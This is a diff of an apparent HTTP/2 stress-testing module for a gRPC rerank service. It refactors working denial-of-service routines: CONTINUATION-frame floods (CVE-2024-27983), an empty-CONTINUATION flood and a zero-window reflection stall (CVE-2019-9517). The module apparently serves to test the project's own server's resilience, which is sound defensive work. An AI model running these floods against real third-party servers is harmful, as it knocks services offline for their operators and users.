@@ -12,6 +12,8 @@ from torture.stranger_rest import tls_handshakes
 _DATA, _HEADERS, _PRIORITY, _RST, _SETTINGS, _PING, _WINDOW, _CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
 _WATCH, _CHECK, _RERANK = "/grpc.health.v1.Health/Watch", "/grpc.health.v1.Health/Check", "/rerank.v1.Rerank/Rerank"
 _INFO = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
+_OPEN_HEADERS = frame(_HEADERS, 0, 1, headers(1, _RERANK)[9:])
+"""Headers of a call without END_HEADERS."""
 _PART = 2000
 """Frames that are sent at once."""
 
@@ -133,15 +135,14 @@ async def rapid_reset(target: Target, count: int, held: ExitStack) -> str:
 
 async def continuation(target: Target, count: int, held: ExitStack) -> str:
     """Continue a header without end (CVE-2024-27983 and others)."""
-    begin = headers(1, _RERANK)
-    begin = begin[:4] + b"\0" + begin[5:]  # without END_HEADERS
-    return await _flood(target, count, held, START + begin, frame(_CONTINUATION, 0, 1, b"\0\1a\x7f" + b"b" * 50))
+    return await _flood(
+        target, count, held, START + _OPEN_HEADERS, frame(_CONTINUATION, 0, 1, b"\0\1a\x7f" + b"b" * 50)
+    )
 
 
 async def empty_continuation(target: Target, count: int, held: ExitStack) -> str:
     """Continue a header by empty frames."""
-    begin = headers(1, _RERANK)
-    return await _flood(target, count, held, START + begin[:4] + b"\0" + begin[5:], frame(_CONTINUATION, 0, 1))
+    return await _flood(target, count, held, START + _OPEN_HEADERS, frame(_CONTINUATION, 0, 1))
 
 
 async def pings(target: Target, count: int, held: ExitStack) -> str:
@@ -203,7 +204,7 @@ def _whole(answer: bytes) -> list[tuple[int, int, bytes]]:
 async def zero_window(target: Target, count: int, held: ExitStack) -> str:
     """Ask for the reflection with a window of 0 bytes, so that no response can be sent (CVE-2019-9517)."""
     start = PREFACE + frame(_SETTINGS, 0, 0, (4).to_bytes(2, "big") + bytes(4)) + frame(_SETTINGS, 1, 0)
-    asked = b"\x22\x14rerank.v1.Rerank"[:2].replace(b"\x14", b"\x10") + b"rerank.v1.Rerank"
+    asked = b"\x22\x10rerank.v1.Rerank"  # file_containing_symbol
     for begin in range(0, count, 900):
         client = connected(target.grpc, held)
         await send(client, start)
